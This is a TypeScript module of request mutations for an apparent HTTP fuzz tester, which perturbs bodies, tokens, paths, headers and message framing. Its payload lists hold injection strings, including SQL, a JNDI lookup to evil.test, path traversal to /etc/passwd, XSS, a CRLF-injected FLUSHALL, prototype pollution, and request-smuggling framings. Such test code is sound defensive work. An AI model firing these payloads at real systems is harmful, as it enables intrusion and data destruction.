// The mutations of requests: of body, credentials, address, headers and framing, one for each fault.
import { chunked, type Draft, type Json, type Random, textOf, type World } from './bad-request-draft.ts'

type Mutation = (draft: Draft, random: Random, world: World) => void

/** Control and invisible characters. They go into a JSON string as they are. */
const hidden = [
  ...['\\u0000', '\\n', '\\r\\nset-cookie: a=b', '\\u001b[2J', '\\u007f', '\\u009b', '\\u2028', '\u2028'],
  ...[
    '\u202e',
    '\u2066',
    '\u200b',
    '\u200d',
    '\u00ad',
    '\ufeff',
    '\\ud800',
    '\\udc00\\ud800',
    '\u0301',
    '\u0000',
  ],
]
const strings = [
  ...[
    '""',
    '"   "',
    '"１２３４５６"',
    `"' OR '1'='1' --"`,
    '"hufu:*\\r\\nFLUSHALL\\r\\n"',
    '"../../../etc/passwd"',
  ],
  ...[
    '"<script>alert(1)</script>"',
    '"$' + '{jndi:ldap://evil.test/a}"',
    '"{{7*7}}"',
    '"%00"',
    '"__proto__"',
    '"-1"',
  ],
  ...['"🐯"', '"constructor"', '"hf_"', '"+86"', '"a\\u0000b"', '"é"', '"e\u0301"'],
]
const otherKinds = [
  ...[
    'null',
    'true',
    'false',
    '0',
    '-0',
    '-1',
    '1e400',
    '-1e400',
    '9007199254740993',
    '1'.repeat(400),
    '0.1',
  ],
  ...['[]', '{}', '["13800005223"]', '{"$ne":null}', '{"__proto__":{"x":1}}', '[[[[]]]]', '1e-400'],
]
const notJson = [
  'NaN',
  'Infinity',
  'undefined',
  "'x'",
  '01',
  '+1',
  '.5',
  '0x10',
  '/* x */1',
  '"',
  '\\',
  '',
  '{',
  ']',
  '"\n"',
]
const keys = [
  ...[
    '"__proto__"',
    '"\\u005f_proto__"',
    '"constructor"',
    '"prototype"',
    '"toString"',
    '"hasOwnProperty"',
    '""',
  ],
  ...[
    '"is_admin"',
    '"id"',
    '"role"',
    '"epoch"',
    '"phone_verified"',
    '"a/b~c"',
    '"\\u0000"',
    '"\\ud800"',
    '"$where"',
  ],
]

/** A random object of the body; null where there is none. */
function someObject(draft: Draft, random: Random): Extract<Json, { pairs: unknown }> | null {
  const found: Extract<Json, { pairs: unknown }>[] = []
  const look = (json: Json): void => {
    if ('pairs' in json) {
      found.push(json)
      for (const [, inner] of json.pairs) look(inner)
    }
    if ('items' in json) json.items.forEach(look)
  }
  if (draft.body) look(draft.body)
  return found.length === 0 ? null : random.pick(found)
}

/** Changes the value of one field anywhere in the body. */
function field(change: (value: Json, random: Random) => Json): Mutation {
  return (draft, random) => {
    const object = someObject(draft, random)
    if (!object || object.pairs.length === 0) return
    const pair = random.pick(object.pairs)
    pair[1] = change(pair[1], random)
  }
}

const bodies: [string, Mutation][] = [
  [
    'a missing field',
    (draft, random) => {
      const object = someObject(draft, random)
      object?.pairs.splice(random.below(object.pairs.length), 1)
    },
  ],
  ['a field of another type', field((_value, random) => ({ text: random.pick(otherKinds) }))],
  ['a field with special text', field((_value, random) => ({ text: random.pick(strings) }))],
  [
    'a field with hidden characters',
    field((value, random) => {
      const text = textOf(value)
      const at = 1 + random.below(Math.max(1, text.length - 1))
      return { text: `${text.slice(0, at)}${random.pick(hidden)}${text.slice(at)}` }
    }),
  ],
  [
    'a long field',
    field((_value, random) => ({
      text: `"${random.pick(['a', '九', '1', '\u0301', '😀']).repeat(2 ** (5 + random.below(10)))}"`,
    })),
  ],
  ['a field that is not JSON', field((_value, random) => ({ text: random.pick(notJson) }))],
  [
    'a deeply nested field',
    field((_value, random) => {
      const depth = 2 ** (2 + random.below(11))
      return random.chance(50)
        ? { text: '['.repeat(depth) + ']'.repeat(depth) }
        : { text: `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}` }
    }),
  ],
  [
    'a duplicate field',
    (draft, random) => {
      const object = someObject(draft, random)
      if (!object || object.pairs.length === 0) return
      const [key, value] = random.pick(object.pairs)
      const duplicate = random.chance(50) ? key : key.replace('_', '\\u005f')
      object.pairs.splice(random.below(object.pairs.length + 1), 0, [
        duplicate,
        random.chance(50) ? value : { text: random.pick(otherKinds) },
      ])
    },
  ],
  [
    'an unknown field',
    (draft, random) => {
      const value = { text: random.pick([...otherKinds, ...strings]) }
      someObject(draft, random)?.pairs.unshift([random.pick(keys), value])
    },
  ],
  [
    'a thousand unknown fields',
    (draft, random) => {
      const more = Array.from({ length: 1000 }, (_, i) => [`"k${i}"`, { text: '1' }] as [string, Json])
      someObject(draft, random)?.pairs.push(...more)
    },
  ],
  [
    'another body',
    (draft, random) => {
      draft.body = { text: random.pick([...otherKinds, ...notJson, ...strings, '\ufeff{}', ' \r\n\t ']) }
    },
  ],
  [
    'a truncated body',
    (draft, random) => {
      if (!draft.body) return
      const text = textOf(draft.body)
      draft.body = { text: text.slice(0, random.below(text.length)) }
    },
  ],
  [
    'trailing data',
    (draft, random) => {
      if (draft.body)
        draft.body = { text: textOf(draft.body) + random.pick(['{}', ',', '\0', '//', ' '.repeat(17_000)]) }
    },
  ],
  [
    'bytes that are not UTF-8',
    (draft, random) => {
      const wrong = Buffer.from(random.pick(['c328', 'c0af', 'eda080', 'ff', 'f4908080', 'e28']), 'hex')
      const share = random.below(1000)
      draft.encode = (text) => {
        const bytes = Buffer.from(text, 'utf8')
        const at = Math.floor((bytes.length * share) / 1000)
        return Buffer.concat([bytes.subarray(0, at), wrong, bytes.subarray(at)])
      }
    },
  ],
  [
    'UTF-16',
    (draft) => {
      draft.encode = (text) => Buffer.from(text, 'utf16le')
    },
  ],
]

function header(name: string, values: readonly string[]): Mutation {
  return (draft, random) => {
    draft.headers.push([name, random.pick(values)])
  }
}

function without(draft: Draft, name: string): void {
  draft.headers = draft.headers.filter(([given]) => given !== name)
}

const credentialNames = ['authorization', 'token'] as const

/** Replaces the credential of the caller. */
function credential(make: (random: Random, world: World) => [string, string][]): Mutation {
  return (draft, random, world) => {
    for (const name of credentialNames) without(draft, name)
    draft.headers.push(...make(random, world))
  }
}

const credentials: [string, Mutation][] = [
  ['no token', credential(() => [])],
  [
    'another scheme',
    credential((random, { tokens }) => {
      const scheme = random.pick([
        'Basic ',
        'Token ',
        '',
        'Bearer',
        'Bearer  ',
        'bearer\t',
        'Bearer "',
        'DPoP ',
      ])
      return [['authorization', scheme + random.pick(tokens)]]
    }),
  ],
  [
    'two credentials',
    credential((random, { tokens }) => {
      const name = random.pick(credentialNames)
      return [0, 1].map(() => [name, `${name === 'token' ? '' : 'Bearer '}${random.pick(tokens)}`])
    }),
  ],
  [
    'a token in the wrong header',
    credential((random, { tokens }) =>
      random.chance(50)
        ? [['token', `Bearer ${random.pick(tokens)}`]]
        : [['cookie', `token=${random.pick(tokens)}; hufu=${random.pick(tokens)}`]],
    ),
  ],
  [
    'a damaged token',
    credential((random, { tokens }) => {
      const token = random.pick(tokens)
      const at = random.below(token.length)
      const cut = random.pick([
        token.slice(0, at),
        token.slice(at),
        `${token}.`,
        `${token.slice(0, at)}A${token.slice(at + 1)}`,
        token.toUpperCase(),
        token.repeat(20),
        `${token.slice(0, at)}\u00ff${token.slice(at)}`,
        `hf_${'A'.repeat(65)}`,
      ])
      return [
        ['authorization', `Bearer ${cut}`],
        ['token', cut],
      ]
    }),
  ],
  [
    'the token of another account',
    credential((random, { tokens }) => {
      const token = random.pick(tokens)
      return [
        ['authorization', `Bearer ${token}`],
        ['token', token],
      ]
    }),
  ],
  [
    'the token of an ended session',
    credential((random, { endedTokens }) => {
      const token = random.pick(endedTokens)
      return [
        ['authorization', `Bearer ${token}`],
        ['token', token],
      ]
    }),
  ],
  [
    'a token in the address',
    (draft, random, { tokens }) => {
      const token = random.pick(tokens)
      if (random.chance(50)) draft.query = `?${random.pick(['token', 'access_token', 'x'])}=${token}`
      else draft.target += `/${token}`
    },
  ],
]

const targets: ((target: string) => string)[] = [
  (target) => `/${target}`,
  (target) => `${target}/`,
  (target) => target.replaceAll('/', '//'),
  (target) => target.replaceAll('/', '%2f'),
  (target) => target.toUpperCase(),
  (target) => `${target}%00`,
  (target) => `${target};a=b`,
  (target) => `/x/..${target}`,
  (target) => `/%2e%2e${target}`,
  (target) => `${target}%zz`,
  (target) => `${target}%ff`,
  (target) => `${target}%2520`,
  (target) => `http://evil.test${target}`,
  (target) => `https://user:password@evil.test:99999${target}`,
  (target) => target.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  (target) => `${target}#x`,
  (target) => target + 'a'.repeat(300),
  () => '*',
  (target) => target.replace('/', '*'),
  (target) => `ftp://evil.test${target}`,
  () => '/',
  () => '/v1/sessions/__proto__',
  () => '/v1/sessions/%F0%9F%90%AF',
  (target) => target.slice(0, -1),
]
const queries = [
  ...[
    '?',
    '?&&&',
    '?all=1',
    '?all=true&all=false',
    '?all[]=true',
    '?__proto__[x]=1',
    '?constructor=1',
    '?limit=-1',
  ],
  ...[
    '?all=%zz',
    '?all=%00',
    `?${'a=b&'.repeat(2000)}`,
    '?x=\u00ff',
    '?all=true#',
    '??',
    '?all',
    '?%61ll=true',
  ],
]
const addresses: [string, Mutation][] = [
  [
    'another path',
    (draft, random) => {
      draft.target = random.pick(targets)(draft.target)
    },
  ],
  [
    'another query',
    (draft, random) => {
      draft.query = random.pick(queries)
    },
  ],
  [
    'another method',
    (draft, random) => {
      draft.method = random.pick([
        'GET',
        'HEAD',
        'POST',
        'PUT',
        'PATCH',
        'DELETE',
        'OPTIONS',
        'TRACE',
        'QUERY',
      ])
    },
  ],
  [
    'an unknown method',
    (draft, random) => {
      draft.method = random.pick(['get', 'FOO', 'CONNECT', 'PRI', 'GE T', '', 'POST\t', 'SOURCE', 'M-SEARCH'])
      draft.isLast = true
    },
  ],
]

const types = [
  ...['', 'text/plain', 'text/json', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x'],
  ...[
    'application/json; charset=utf-16',
    'application/json;charset="gbk"',
    'application/json garbage',
    'APPLICATION/JSON',
  ],
  ...[
    'application/json; charset=utf-8',
    'application/problem+json',
    '*/*',
    'application/json, text/plain',
    '\u00ff',
  ],
  ...[
    'application/json;',
    'application/json; charset',
    'application/json;charset=;;',
    `application/json;${' '.repeat(5000)}`,
  ],
]
const forwarded = [
  '127.0.0.1',
  'unknown',
  '::1',
  '[2001:db8::1]:4711',
  '10.0.0.1, '.repeat(50),
  '<script>',
  '',
  '999.1.1.1',
  '%0a',
]
const headers: [string, Mutation][] = [
  [
    'another content type',
    (draft, random) => {
      draft.headers.push(['content-type', random.pick(types)])
      if (random.chance(20)) draft.headers.push(['content-type', random.pick(types)])
    },
  ],
  [
    'a content encoding',
    header('content-encoding', ['gzip', 'br', 'deflate', 'zstd', 'gzip, gzip', 'identity', 'x', '']),
  ],
  ['a forwarded address', header('x-forwarded-for', forwarded)],
  ['a forwarded host', header('x-forwarded-host', ['evil.test', '', 'a, b', '\u00ff'])],
  ['a Forwarded header', header('forwarded', ['for="[::1]";host=evil.test', 'for=_x', ';;;', '"'])],
  [
    'a language',
    header('accept-language', [
      'zh',
      'en;q=0.1, zh;q=9',
      'a,'.repeat(5000),
      ';q=,;',
      '*',
      'zh-\u00ff',
      'en;q=1.0000',
    ]),
  ],
  ['an Accept', header('accept', ['*/*;q=0.1,'.repeat(1000), 'x', '', 'application/json;q=0'])],
  ['another id', header('x-request-id', ['', 'a b', '\u001f', 'x'.repeat(65), '"}{', '\u00ff', '../..'])],
  ['a range', header('range', ['bytes=0-1', 'bytes=-1', 'x'])],
  ['a condition', header('if-none-match', ['*', '"x"', ''])],
  ['an origin', header('origin', ['null', 'https://evil.test', ''])],
  ['another method in a header', header('x-http-method-override', ['DELETE', 'constructor'])],
  ['a header named like a property', header('__proto__', ['x', 'constructor'])],
  [
    'a Connection header that names other headers',
    header('connection', ['authorization, host', 'x-request-id', 'keep-alive, keep-alive']),
  ],
  ['an idempotency key', header('idempotency-key', ['x', 'a'.repeat(1000)])],
  [
    'many headers',
    (draft) =>
      void draft.headers.push(...Array.from({ length: 101 }, (_, i): [string, string] => [`h${i}`, 'x'])),
  ],
  [
    'another host',
    (draft, random) => {
      without(draft, 'host')
      const hosts = ['evil.test', '', 'a b', 'user:pw@hufu.test', 'hufu.test:99999', '[::1', '\u00ff']
      if (random.chance(80)) draft.headers.push(['host', random.pick(hosts)])
      else draft.isLast = true
      if (random.chance(20)) draft.headers.push(['host', 'two.test'])
    },
  ],
]

/** A mutation after which the server closes the connection. */
function last(change: Mutation): Mutation {
  return (draft, random, world) => {
    draft.isLast = true
    change(draft, random, world)
  }
}

/** Lines to insert between the headers, unchanged. */
const rawLines = [
  ...[
    'x y: z\r\n',
    'a: b\r\n c\r\n',
    'a: b\0c\r\n',
    'a: b\rc\r\n',
    'abc\r\n',
    ': x\r\n',
    'a : b\r\n',
    'a: b\nc: d\n',
  ],
  ...[
    '\u00ff: x\r\n',
    'a: \u007f\r\n',
    'content-length: 1\r\n',
    'content-length: -1\r\n',
    'content-length: 99999999999999999999\r\n',
  ],
  ...[
    'transfer-encoding: xchunked\r\n',
    'transfer-encoding: chunked\r\n',
    'transfer-encoding: chunked, identity\r\n',
  ],
  ...[
    `a: ${'x'.repeat(17_000)}\r\n`,
    `${'h: x\r\n'.repeat(2001)}`,
    'expect: 200-ok\r\n',
    'connection: close\r\n',
  ],
]
const contradictions: ((bytes: Buffer) => Draft['framing'])[] = [
  (bytes) => ({
    headers: [
      ['content-length', String(bytes.length)],
      ['content-length', '1'],
    ],
    body: (all) => all,
  }),
  () => ({
    headers: [['content-length', '2']],
    body: (all) => Buffer.concat([all, Buffer.from('\0\0\0\0')]),
  }),
  (bytes) => ({
    headers: [
      ['content-length', String(bytes.length)],
      ['transfer-encoding', 'chunked'],
    ],
    body: chunked,
  }),
  () => ({
    headers: [
      ['transfer-encoding', 'chunked'],
      ['transfer-encoding', 'chunked'],
    ],
    body: chunked,
  }),
  () => ({
    headers: [['transfer-encoding', 'chunked']],
    body: () => Buffer.from('fffffffffffffffff\r\nab\r\n'),
  }),
  () => ({ headers: [['transfer-encoding', 'chunked']], body: () => Buffer.from('zz\r\n\r\n') }),
  () => ({
    headers: [['transfer-encoding', 'chunked']],
    body: () => Buffer.from(`1;${'a'.repeat(20_000)}\r\nx\r\n0\r\n\r\n`),
  }),
  () => ({
    headers: [
      ['content-length', '10000000000'],
      ['content-type', 'application/json'],
    ],
    body: () => Buffer.alloc(0),
  }),
]
const framings: [string, Mutation][] = [
  [
    'a line that is not a header',
    last((draft, random) => {
      draft.headers.splice(random.below(draft.headers.length + 1), 0, [random.pick(rawLines), '\n'])
    }),
  ],
  [
    'a framing that contradicts itself',
    last((draft, random) => {
      // A route without a body reads none, and would leave the rest of this one on the connection.
      if (draft.body === null) draft.body = { text: '{}' }
      draft.framing = random.pick(contradictions)(Buffer.from(textOf(draft.body)))
    }),
  ],
  [
    'another version',
    last((draft, random) => {
      draft.version = random.pick([
        'HTTP/1.0',
        'HTTP/2.0',
        'HTTP/0.9',
        'HTTP/9.9',
        'HTTP/1.1 x',
        'ICE/1.0',
        'http/1.1',
        '',
      ])
    }),
  ],
  [
    'an upgrade',
    last((draft, random) => {
      draft.headers.push(
        ['connection', 'upgrade'],
        ['upgrade', random.pick(['websocket', 'h2c', 'TLS/1.0', '\u00ff', ''])],
      )
    }),
  ],
  [
    'an expectation',
    last((draft) => {
      draft.headers.push(['expect', '100-continue'])
    }),
  ],
]

/**
 * All mutations with their names. Bodies and addresses are twice as frequent, because most code handles them.
 */
export const mutations: readonly (readonly [string, Mutation])[] = [
  ...[...bodies, ...bodies],
  ...credentials,
  ...[...addresses, ...addresses],
  ...headers,
  ...framings,
]
